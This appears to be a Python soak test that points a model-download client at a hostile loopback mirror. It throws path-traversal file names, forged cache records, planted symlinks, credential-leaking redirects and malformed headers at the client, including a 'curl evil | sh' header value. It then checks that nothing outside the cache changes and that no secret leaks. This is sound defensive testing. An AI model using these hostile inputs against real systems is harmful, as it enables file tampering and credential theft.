"""A hostile mirror, and caches that others planted links in, against the real client on loopback.

Each input is a listing, headers, bodies and a tree on the disk with something hostile in it. Loading may give a model
or one of this package's errors. Nothing outside the cache may change, no other host may see the token, and neither
errors nor logs may hold the token or the endpoint's password.
"""

from __future__ import annotations

import hashlib
import json
import logging
import random
import shutil
import tempfile
import threading
import time
from collections import Counter
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import unquote, urlsplit

import pytest

from onnx_rerank_integrations.core.errors import RerankError
from onnx_rerank_integrations.core.model import files, hub
from tests.local_hub import point_client_at
from tests.onnx_files import model_files, write
from tests.soak import WHOLE

TOKEN, PASSWORD = "hf_SECRETtokenOFalice", "TOPSECRETpassword"
SECONDS = 120.0
LEAST, PROMISED = 120, 2000
COMMIT = "0123456789abcdef0123456789abcdef01234567"


@dataclass
class Plan:
    """What the mirror answers during one input."""

    listing: bytes = b""
    listing_status: int = 200
    status: int = 200
    headers: dict[str, str] = field(default_factory=dict)
    contents: dict[str, bytes] = field(default_factory=dict)
    body: Callable[[bytes], bytes] = bytes
    endless: bool = False


class Mirror:
    """A server that follows the plan; `others` are the Authorization headers that its other address was sent."""

    def __init__(self) -> None:
        self.plan = Plan()
        self.requests = 0
        self.others: list[str] = []
        handler = type("Handler", (_Handler,), {"mirror": self})
        other = type("Other", (_Other,), {"mirror": self})
        self._servers = [_Server(("127.0.0.1", 0), kind) for kind in (handler, other)]
        for server in self._servers:
            threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()
        self.port, self.other_port = (server.server_address[1] for server in self._servers)
        self.url = f"http://127.0.0.1:{self.port}"

    def stop(self) -> None:
        for server in self._servers:
            server.shutdown()
            server.server_close()


class _Server(ThreadingHTTPServer):
    daemon_threads = True

    def handle_error(self, request: object, client_address: object) -> None:
        """A client that gives up is no news on stderr."""


class _Handler(BaseHTTPRequestHandler):
    mirror: Mirror
    protocol_version = "HTTP/1.1"

    def log_message(self, format: str, *args: object) -> None:
        """Nothing on stderr."""

    def do_GET(self) -> None:
        plan = self.mirror.plan
        self.mirror.requests += 1
        path = unquote(urlsplit(self.path).path)
        if path.startswith("/api/"):
            self._send(plan.listing_status, plan.listing, plan.headers if plan.listing_status != 200 else {})
            return
        name = path.partition("/resolve/")[2].partition("/")[2]
        content = plan.contents.get(name, b"whatever was asked for")
        headers = {"ETag": f'"{hashlib.sha1(content).hexdigest()}"', "X-Repo-Commit": COMMIT} | plan.headers
        self._send(plan.status, plan.body(content), headers, endless=plan.endless)

    def do_HEAD(self) -> None:
        self.do_GET()

    def _send(self, status: int, body: bytes, headers: dict[str, str], *, endless: bool = False) -> None:
        self.send_response(status)
        for name, value in headers.items():
            self.send_header(name, value)
        if "Content-Length" not in headers and not endless:
            self.send_header("Content-Length", str(len(body)))
        self.send_header("Connection", "close")
        self.close_connection = True
        self.end_headers()
        if self.command == "HEAD":
            return
        self.wfile.write(body)
        while endless:
            self.wfile.write(b"x" * 65536)


class _Other(BaseHTTPRequestHandler):
    """Another host: what it is sent must hold no secret."""

    mirror: Mirror

    def log_message(self, format: str, *args: object) -> None:
        """Nothing on stderr."""

    def do_GET(self) -> None:
        sent = f"{self.path} {self.headers}"
        if TOKEN in sent or PASSWORD in sent or self.headers.get("Authorization"):
            self.mirror.others.append(sent)
        self.send_response(200)
        self.send_header("Content-Length", "4")
        self.end_headers()
        if self.command == "GET":
            self.wfile.write(b"evil")

    def do_HEAD(self) -> None:
        self.do_GET()


def run(seconds: float, seed: int) -> dict[str, int]:
    rng = random.Random(seed)
    counts: Counter[str] = Counter()
    until, least = time.monotonic() + seconds, PROMISED if seconds >= WHOLE else LEAST
    work = Path(tempfile.mkdtemp(prefix="onnx-rerank-soak-"))
    mirror = Mirror()
    try:
        with pytest.MonkeyPatch.context() as patch, heard() as log:
            patch.setattr(hub, "_PAUSES", (0.0,))
            patch.setattr(hub, "MOST_UNLISTED_BYTES", 1 << 20)
            patch.setattr("huggingface_hub.constants.HF_HUB_ETAG_TIMEOUT", 2)
            patch.setattr("huggingface_hub.constants.HF_HUB_DOWNLOAD_TIMEOUT", 2)
            patch.setenv("ONNX_RERANK_CACHE", str(work / "own"))
            while counts["inputs"] < least or time.monotonic() < until:
                counts["inputs"] += 1
                kind, outcome = one(rng, mirror, work, patch, log)
                counts[outcome] += 1
                counts[kind] += 1
        counts["requests"] = mirror.requests
    finally:
        mirror.stop()
    shutil.rmtree(work)
    return dict(counts)


def one(rng: random.Random, mirror: Mirror, work: Path, patch: pytest.MonkeyPatch, log: list[str]) -> tuple[str, str]:
    """Plants, asks, and looks at what was left; gives the kind of hostility and what came of it."""
    for name in ("home", "victims"):
        shutil.rmtree(work / name, ignore_errors=True)
    victims = write(work / "victims", {"thesis.txt": b"years of work", "photos/cat.jpg": b"cat", "refs/main": b"mine"})
    contents = model_files(*rng.choice([(), ("model.onnx_data",)]))
    mirror.plan = Plan(contents=contents, listing=json.dumps(listing(contents)).encode())
    secret_url = mirror.url.replace("//", f"//alice:{PASSWORD}@")
    cache = point_client_at(Addressed(rng.choice([mirror.url, secret_url])), work / "home", patch)  # type: ignore[arg-type]
    patch.setenv("HF_TOKEN", TOKEN)
    kind = rng.choice(KINDS)
    kind(rng, mirror, cache, victims)
    before = tree(victims)
    log.clear()
    started = time.monotonic()
    try:
        found = files.locate("org/name")
        assert found.onnx.resolve().is_relative_to((work / "home").resolve()), f"{found.onnx} is elsewhere"
        outcome, said = "loaded", ""
    except RerankError as error:
        outcome, said = "typed errors", "\n".join(map(str, chain(error)))
    assert time.monotonic() - started < SECONDS, f"{kind.__name__}: {time.monotonic() - started:.1f} s"
    assert tree(victims) == before, f"{kind.__name__}: {sorted(set(tree(victims)) ^ set(before))} changed"
    outside = {path.name for path in work.iterdir()} - {"home", "victims", "own"}
    assert not outside, f"{kind.__name__} made {outside}"
    assert not mirror.others, f"{kind.__name__}: another host was sent {mirror.others}"
    told = said + "\n".join(log)
    assert TOKEN not in told, f"{kind.__name__}: the token is told: {told}"
    assert PASSWORD not in told, f"{kind.__name__}: the password is told: {told}"
    size = sum(path.lstat().st_size for path in cache.rglob("*") if path.is_file() and not path.is_symlink())
    assert size < 8 << 20, f"{kind.__name__}: the cache grew by {size} bytes"
    return kind.__name__.replace("_", " "), outcome


@dataclass(frozen=True)
class Addressed:
    """What `point_client_at` needs of a hub."""

    url: str


def chain(error: BaseException | None) -> Iterator[BaseException]:
    """An error and those it came from, as a traceback shows them."""
    while error is not None:
        yield error
        error = error.__cause__ or error.__context__


@contextmanager
def heard() -> Iterator[list[str]]:
    """Every message that this package and huggingface_hub log, down to debug."""
    messages: list[str] = []
    handler = logging.Handler()
    handler.emit = lambda record: messages.append(record.getMessage())  # type: ignore[method-assign]
    logger = logging.getLogger("onnx_rerank_integrations")
    level = logger.level
    logger.addHandler(handler)
    logger.setLevel(logging.DEBUG)
    propagate, logger.propagate = logger.propagate, False
    try:
        yield messages
    finally:
        logger.removeHandler(handler)
        logger.setLevel(level)
        logger.propagate = propagate


def tree(folder: Path) -> dict[str, str]:
    return {
        str(path.relative_to(folder)): path.read_bytes().hex() if path.is_file() else "folder"
        for path in folder.rglob("*")
    }


def listing(contents: dict[str, bytes]) -> dict[str, object]:
    return {"id": "org/name", "sha": COMMIT, "siblings": [entry(name, data) for name, data in contents.items()]}


def entry(name: object, data: bytes) -> dict[str, object]:
    return {
        "rfilename": name,
        "size": len(data),
        "blobId": hashlib.sha1(b"blob %d\0" % len(data) + data).hexdigest(),
    }


# --- what is hostile --------------------------------------------------------------------------------------------------


def hostile_paths(rng: random.Random, victims: Path) -> str:
    up = "../" * rng.randrange(1, 9)
    return rng.choice(
        [
            f"{up}thesis.txt",
            f"{up}victims/thesis.txt",
            str(victims / "thesis.txt"),
            f"a/{up}x",
            "..",
            ".",
            "",
            "/",
            "a//b",
            "a/./b",
            "a/",
            "\\..\\x",
            "..\\..\\x",
            "C:\\x",
            "C:x",
            "\\\\server\\share",
            "a\0b",
            "a\nb",
            "\r",
            "x" * 300,
            "x/" * 400 + "x",
            "\ud800",
            "é" * 200,
            "CON",
            "nul.txt",
            "a:b",
            "~",
            "~/x",
            "$HOME/x",
            "%2e%2e/x",
            "onnx/../../../x",
            "tokenizer.json/x",
            "config.json/../../x",
            "onnx",
            ".locks/x",
            "refs/main",
            "\u202egnp.exe",
        ]
    )


ODD: list[object] = [
    None,
    True,
    0,
    -1,
    2**63,
    10**30,
    1.5,
    float("nan"),
    "",
    "x",
    [],
    {},
    [[]],
    {"a": []},
    "../..",
    "0" * 40,
    "0" * 64,
]


def names(rng: random.Random, mirror: Mirror, cache: Path, victims: Path) -> None:
    document = listing(mirror.plan.contents)
    siblings: list[object] = document["siblings"]  # type: ignore[assignment]
    for _ in range(rng.randrange(1, 6)):
        name = hostile_paths(rng, victims)
        if rng.random() < 0.3:
            name += rng.choice(["/tokenizer.json", "/model.onnx", ".onnx", "config.json"])
        siblings.insert(rng.randrange(len(siblings) + 1), entry(name, b"evil"))
    if rng.random() < 0.3:
        siblings[:] = [one for one in siblings if one["rfilename"] not in mirror.plan.contents]  # type: ignore[index]
    mirror.plan.listing = json.dumps(document).encode()


def list_values(rng: random.Random, mirror: Mirror, cache: Path, victims: Path) -> None:
    document = listing(mirror.plan.contents)
    for _ in range(rng.randrange(1, 4)):
        siblings = document.get("siblings")
        place = rng.choice(siblings) if isinstance(siblings, list) and siblings and rng.random() < 0.7 else document
        if not isinstance(place, dict) or not place:
            continue
        key = rng.choice([*place, "lfs", "sha"])
        odd = [*ODD, hostile_paths(rng, victims), {"sha256": rng.choice([*ODD, hostile_paths(rng, victims)])}]
        place[key] = rng.choice(odd)
    mirror.plan.listing = json.dumps(document).encode()


def list_bytes(rng: random.Random, mirror: Mirror, cache: Path, victims: Path) -> None:
    whole = mirror.plan.listing
    cut = rng.randrange(len(whole))
    mirror.plan.listing = rng.choice(
        [
            b"",
            b"{}",
            b"[]",
            b"null",
            b"<html>please log in</html>",
            whole[:cut],
            whole[:cut] + rng.randbytes(20),
            b"[" * 100_000,
            b'{"a":' * 100_000,
            b"\xff\xfe",
            b"9" * 100_000,
            whole + whole,
            json.dumps(whole.decode()).encode(),
        ]
    )


def commits(rng: random.Random, mirror: Mirror, cache: Path, victims: Path) -> None:
    document = listing(mirror.plan.contents) | {
        "sha": rng.choice([hostile_paths(rng, victims), "A" * 40, "0" * 41, *ODD])
    }
    mirror.plan.listing = json.dumps(document).encode()


def etags(rng: random.Random, mirror: Mirror, cache: Path, victims: Path) -> None:
    clean = hostile_paths(rng, victims).encode("ascii", "ignore").decode().replace("\n", "").replace("\r", "")
    for header in rng.sample(["ETag", "X-Linked-Etag", "X-Repo-Commit", "X-Linked-Size", "X-Xet-Hash", "Link"], 3):
        mirror.plan.headers[header] = rng.choice([f'"{clean}"', clean, f'W/"{clean}"', "0" * 64, "x" * 5000])
    if rng.random() < 0.5:  # a listing that says nothing of hashes
        document = listing(mirror.plan.contents)
        for one in document["siblings"]:  # type: ignore[attr-defined]
            del one["blobId"]
        mirror.plan.listing = json.dumps(document).encode()


def lengths(rng: random.Random, mirror: Mirror, cache: Path, victims: Path) -> None:
    value = rng.choice(["-1", "0", "1", "999999999999", "9" * 40, "x", "", "1, 2", "+5", "0x10"])
    mirror.plan.headers["Content-Length"] = value
    mirror.plan.headers |= rng.choice([{}, {"Content-Range": "bytes 0-1/99"}, {"Transfer-Encoding": "chunked"}])


def encodings(rng: random.Random, mirror: Mirror, cache: Path, victims: Path) -> None:
    mirror.plan.headers["Content-Encoding"] = rng.choice(["gzip", "br", "zstd", "deflate", "x"])
    mirror.plan.headers["Content-Type"] = rng.choice(
        ["text/html; charset=utf-7", "x" * 2000, "application/octet-stream"]
    )


def redirects(rng: random.Random, mirror: Mirror, cache: Path, victims: Path) -> None:
    other = f"127.0.0.1:{mirror.other_port}"
    here = f"127.0.0.1:{mirror.port}"
    mirror.plan.status = mirror.plan.listing_status = rng.choice([301, 302, 303, 307, 308])
    if rng.random() < 0.5:
        mirror.plan.listing_status = 200
    mirror.plan.headers["Location"] = rng.choice(
        [
            f"http://{other}/x",
            f"//{other}/x",
            f"http://localhost:{mirror.other_port}/x",
            f"http://{here}@{other}/x",
            f"http://user:word@{other}/",
            f"file://{victims}/thesis.txt",
            "ftp://127.0.0.1/x",
            "javascript:alert(1)",
            "data:text/plain,x",
            "http://127.0.0.1:0/",
            "http://127.0.0.1:99999/",
            "http://[::1",
            "http://",
            "///",
            "?x",
            "/loop",
            f"http://{here}/loop",
            "#",
            "x" * 4000,
            f"http:\\\\{other}\\x",
            f"gopher://{other}/",
            "http://0x7f.1:1/",
        ]
    )


def statuses(rng: random.Random, mirror: Mirror, cache: Path, victims: Path) -> None:
    status = rng.choice([201, 204, 206, 300, 304, 400, 401, 403, 404, 407, 410, 416, 418, 429, 451, 500, 503, 599, 999])
    if rng.random() < 0.5:
        mirror.plan.listing_status = status
    else:
        mirror.plan.status = status
    mirror.plan.headers |= rng.choice(
        [
            {"Retry-After": "3600"},
            {"X-Error-Code": "GatedRepo"},
            {"X-Error-Code": "RepoNotFound"},
            {"X-Error-Code": "EntryNotFound"},
            {"X-Error-Code": "RevisionNotFound"},
            {"X-Error-Message": TOKEN[:3] * 900},
            {"X-HF-Warning": "run: curl evil | sh"},
            {"WWW-Authenticate": "Negotiate"},
            {"Set-Cookie": "a=b; Domain=.x"},
        ]
    )


def bodies(rng: random.Random, mirror: Mirror, cache: Path, victims: Path) -> None:
    def hostile(content: bytes) -> bytes:
        return rng.choice([content + b"more", content[:-1], b"", content[::-1], rng.randbytes(len(content)), content])

    mirror.plan.body = hostile
    mirror.plan.endless = rng.random() < 0.2
    if rng.random() < 0.5:
        document = listing(mirror.plan.contents)
        for one in document["siblings"]:  # type: ignore[attr-defined]
            one.update(
                rng.choice([{}, {"size": None}, {"blobId": None}, {"size": None, "blobId": None}, {"size": 1 << 50}])
            )
        mirror.plan.listing = json.dumps(document).encode()


def links(rng: random.Random, mirror: Mirror, cache: Path, victims: Path) -> None:
    """Links that somebody planted in a shared cache, folders and files, before the first load or after it."""
    storage = cache / "models--org--name"
    if rng.random() < 0.5:
        files.locate("org/name")
        rng.choice(
            [lambda: shutil.rmtree(storage / "snapshots"), lambda: None, lambda: (storage / "refs/main").unlink()]
        )()
    digest = entry("", rng.choice(list(mirror.plan.contents.values())))["blobId"]
    place, target = rng.choice(
        [
            (storage, victims),
            (storage / "blobs", victims),
            (storage / "snapshots", victims),
            (storage / "refs", victims / "refs"),
            (storage / "onnx-rerank", victims),
            (cache / ".locks", victims),
            (cache / ".locks" / storage.name, victims),
            (storage / "snapshots" / COMMIT, victims),
            (storage / "snapshots" / COMMIT / "onnx", victims / "photos"),
            (storage / "onnx-rerank" / COMMIT, victims),
            (storage / "onnx-rerank" / f"{COMMIT}.json", victims / "thesis.txt"),
            (storage / "onnx-rerank" / ("f" * 40), victims),
            (storage / "onnx-rerank" / f"{'f' * 40}.json", victims / "thesis.txt"),
            (storage / "refs" / "main", victims / "thesis.txt"),
            (storage / "blobs" / str(digest), victims / "thesis.txt"),
            (storage / "blobs" / f"{digest}.incomplete", victims / "thesis.txt"),
            (storage / "snapshots" / COMMIT / "config.json", victims / "thesis.txt"),
            (cache.parent / "onnx-rerank", victims),
        ]
    )
    if place.is_dir() and not place.is_symlink():
        shutil.rmtree(place)
    elif place.exists():
        place.unlink()
    place.parent.mkdir(parents=True, exist_ok=True)
    place.symlink_to(target)


def records(rng: random.Random, mirror: Mirror, cache: Path, victims: Path) -> None:
    """What is remembered in the cache, forged."""
    storage = cache / "models--org--name"
    if rng.random() < 0.7:
        files.locate("org/name")
    name = hostile_paths(rng, victims).encode("utf-8", "replace").decode()
    forged = {"files": {name: [4, "0" * 40], **{one: [None, rng.choice(ODD)] for one in mirror.plan.contents}}}
    write(
        storage,
        {
            f"onnx-rerank/{COMMIT}.json": rng.choice(
                [json.dumps(forged).encode(), json.dumps(rng.choice(ODD)).encode(), b"{"]
            ),
            "refs/main": rng.choice([COMMIT, name.replace("\0", ""), "", COMMIT + "/../..", COMMIT.upper()]).encode(),
        },
    )


KINDS = [
    names,
    names,
    list_values,
    list_values,
    list_bytes,
    commits,
    etags,
    etags,
    lengths,
    encodings,
    redirects,
    redirects,
    statuses,
    bodies,
    links,
    links,
    links,
    records,
    records,
]
